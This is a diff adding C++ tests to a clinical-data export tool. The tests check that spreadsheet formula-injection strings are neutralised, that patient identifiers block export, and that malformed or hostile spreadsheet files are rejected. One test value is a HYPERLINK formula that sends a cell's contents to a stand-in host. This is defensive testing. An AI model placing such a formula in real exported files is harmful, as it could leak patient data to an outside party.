@@ -455,6 +455,127 @@ private slots:
     CaseDatabase db(*fixture_->store);
     QVERIFY(db.listExports().value().back().note.contains(QStringLiteral("INCOMPLETE")));
   }
+
+  // Nothing a partner opens can run: formula-like text is text in the .csv (a leading
+  // apostrophe) and a string cell in the .xlsx, as Python's csv module and openpyxl read them.
+  void formulaCellsStayText() {
+    RC_REQUIRE_PYDICOM();
+    const QStringList hostile = {QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"), QStringLiteral("+1+1"),
+                                 QStringLiteral("-2+3"), QStringLiteral("@SUM(1,2)"), QStringLiteral("\tTAB"), QStringLiteral("\rCR"),
+                                 QStringLiteral("=1+1"), QStringLiteral("plain, text")};
+    CaseSheet sheet;
+    sheet.columns.push_back({QStringLiteral("text"), QStringLiteral("テキスト"), QStringLiteral("Text"), false});
+    for (const QString& h : hostile) sheet.rows.push_back({QStringLiteral("RC-000001"), QString(), {QVariant(h)}});
+    const QString csv = outDir_.filePath(QStringLiteral("formulas.csv")), xlsx = outDir_.filePath(QStringLiteral("formulas.xlsx"));
+    QVERIFY(writeCaseSheetCsv(sheet, csv, false, false).ok());
+    QVERIFY(writeCaseSheetXlsx(sheet, xlsx, false, false).ok());
+    QString error;
+    const QJsonObject seen = test::runPythonOracle(QStringLiteral("sheet_cells_oracle.py"), {csv, xlsx}, &error).object();
+    if (seen.isEmpty()) QSKIP(qPrintable(QStringLiteral("python3-openpyxl: %1").arg(error)));
+    const QJsonArray csvRows = seen.value(QStringLiteral("csv")).toArray();
+    const QJsonArray xlsxRows = seen.value(QStringLiteral("xlsx")).toArray();
+    QCOMPARE(csvRows.size(), hostile.size() + 1);
+    for (int r = 0; r < hostile.size(); ++r) {
+      const QString& h = hostile[r];
+      const bool formulaLike = QStringLiteral("=+-@\t\r").contains(h.front());
+      QCOMPARE(csvRows.at(r + 1).toArray().at(0).toString(), formulaLike ? QLatin1Char('\'') + h : h);
+      const QJsonObject cell = xlsxRows.at(r + 1).toArray().at(0).toObject();
+      QCOMPARE(cell.value(QStringLiteral("type")).toString(), QStringLiteral("s"));
+      QCOMPARE(cell.value(QStringLiteral("value")).toString(), h);
+    }
+  }
+
+  // Cells no spreadsheet keeps whole, and cells that name a patient in any spelling, stop the
+  // export before anything is written; the sheet's row and column are named.
+  void unwritableOrIdentifyingCellsStopTheExport_data() {
+    QTest::addColumn<QString>("value");
+    QTest::addColumn<QString>("reason");
+    QTest::newRow("over 32,767 characters") << QString(40000, QLatin1Char('x')) << QStringLiteral("40000 characters");
+    QTest::newRow("NUL") << QStringLiteral("before") + QChar(0) + QStringLiteral("after") << QStringLiteral("NUL");
+    QTest::newRow("full-width patient ID") << QStringLiteral("紹介元ＩＤ：ＤＥＭＯ－０００１") << QStringLiteral("contains an identifier of patient");
+    QTest::newRow("patient ID, no hyphen") << QStringLiteral("see demo0001") << QStringLiteral("contains an identifier of patient");
+  }
+  void unwritableOrIdentifyingCellsStopTheExport() {
+    QFETCH(QString, value);
+    QFETCH(QString, reason);
+    setSegmentVerified(true);
+    ClinicalRecord saved;
+    {
+      CaseDatabase db(*fixture_->store);
+      saved = ClinicalRecordStore(db).load(ct_.patientCode).value().value();
+      ClinicalRecord record = saved;
+      record.values.insert(QStringLiteral("pathology"), value);
+      QVERIFY(ClinicalRecordStore(db).save(record).ok());
+    }
+    const int before = ledgerRows();
+    const QString target = outDir_.filePath(QStringLiteral("cells"));
+    const auto refused = exportDataset(*fixture_->store, target, options(false, true));
+    {
+      CaseDatabase db(*fixture_->store);
+      ClinicalRecord record = ClinicalRecordStore(db).load(ct_.patientCode).value().value();
+      record.values = saved.values;
+      QVERIFY(ClinicalRecordStore(db).save(record).ok());
+    }
+    QVERIFY(!refused.ok());
+    QVERIFY2(refused.error().contains(QStringLiteral("row 1, column ")) && refused.error().contains(QStringLiteral("病理診断")) &&
+                 refused.error().contains(reason),
+             qPrintable(refused.error().left(400)));
+    QVERIFY(!refused.error().contains(QStringLiteral("DEMO")));  // the identifier is not repeated
+    QVERIFY(!QFileInfo::exists(target));
+    QCOMPARE(ledgerRows(), before);
+  }
+
+  // Spreadsheets in are bounded and honest: every class of damage is an error that names the
+  // file and the part or cell; nothing is guessed, nothing allocates the grid it claims.
+  void hostileSpreadsheetsAreNamed_data() {
+    QTest::addColumn<QString>("file");
+    QTest::addColumn<QString>("expected");
+    QTest::newRow("row two billion") << QStringLiteral("giant-row.xlsx") << QStringLiteral("row number \"2000000000\"");
+    QTest::newRow("past XFD") << QStringLiteral("past-xfd.xlsx") << QStringLiteral("cell XFE2");
+    QTest::newRow("letters overflow") << QStringLiteral("overflowing-letters.xlsx") << QStringLiteral("not a cell reference");
+    QTest::newRow("shared index overflow") << QStringLiteral("shared-index-overflow.xlsx") << QStringLiteral("shared string 99999999999999999999999 does not exist");
+    QTest::newRow("shared index negative") << QStringLiteral("shared-index-negative.xlsx") << QStringLiteral("shared string -1 does not exist");
+    QTest::newRow("shared index past end") << QStringLiteral("shared-index-past-end.xlsx") << QStringLiteral("shared string 3 does not exist");
+    QTest::newRow("serial date overflow") << QStringLiteral("serial-date-overflow.xlsx") << QStringLiteral("not a date Excel can show");
+    QTest::newRow("shared strings cut") << QStringLiteral("shared-truncated.xlsx") << QStringLiteral("xl/sharedStrings.xml is damaged");
+    QTest::newRow("shared strings entities") << QStringLiteral("shared-entities.xlsx") << QStringLiteral("a DTD");
+    QTest::newRow("BOM, then not UTF-8") << QStringLiteral("bom-then-latin1.csv") << QStringLiteral("holds bytes that are not UTF-8");
+  }
+  void hostileSpreadsheetsAreNamed() {
+    QFETCH(QString, file);
+    QFETCH(QString, expected);
+    const QString dir = hostileSheets();
+    if (dir.isEmpty()) QSKIP("python3 could not write the hostile sheets");
+    const auto read = readSpreadsheet(QDir(dir).filePath(file));
+    QVERIFY2(!read.ok(), qPrintable(file));
+    QVERIFY2(read.error().contains(file) && read.error().contains(expected), qPrintable(read.error()));
+  }
+
+  void sparseSheetCostsItsCells() {
+    const QString dir = hostileSheets();
+    if (dir.isEmpty()) QSKIP("python3 could not write the hostile sheets");
+    const auto read = readSpreadsheet(QDir(dir).filePath(QStringLiteral("sparse-edges.xlsx")));
+    QVERIFY2(read.ok(), qPrintable(read.error()));
+    QCOMPARE(read->header, (QStringList{QStringLiteral("patient_code"), QStringLiteral("age")}));
+    QCOMPARE(int(read->rows.size()), 1);
+    QCOMPARE(read->rows[0].number, 1048575);  // below the header in row 1
+    QCOMPARE(int(read->rows[0].cells.size()), 2);
+    QCOMPARE(read->rows[0].value(0), QStringLiteral("RC-000001"));
+    QCOMPARE(read->rows[0].value(16383), QStringLiteral("42"));
+    QCOMPARE(read->rows[0].value(1), QString());
+  }
+
+private:
+  QString hostileSheets() {
+    if (hostileSheets_.isEmpty()) {
+      QProcess python;
+      python.start(QStringLiteral("/usr/bin/python3"),
+                   {QDir(test::testToolsDir()).filePath(QStringLiteral("hostile_sheets.py")), outDir_.filePath(QStringLiteral("hostile-sheets"))});
+      if (python.waitForFinished(60000) && python.exitCode() == 0) hostileSheets_ = outDir_.filePath(QStringLiteral("hostile-sheets"));
+    }
+    return hostileSheets_;
+  }
+  QString hostileSheets_;
 };
 
 int main(int argc, char** argv) {
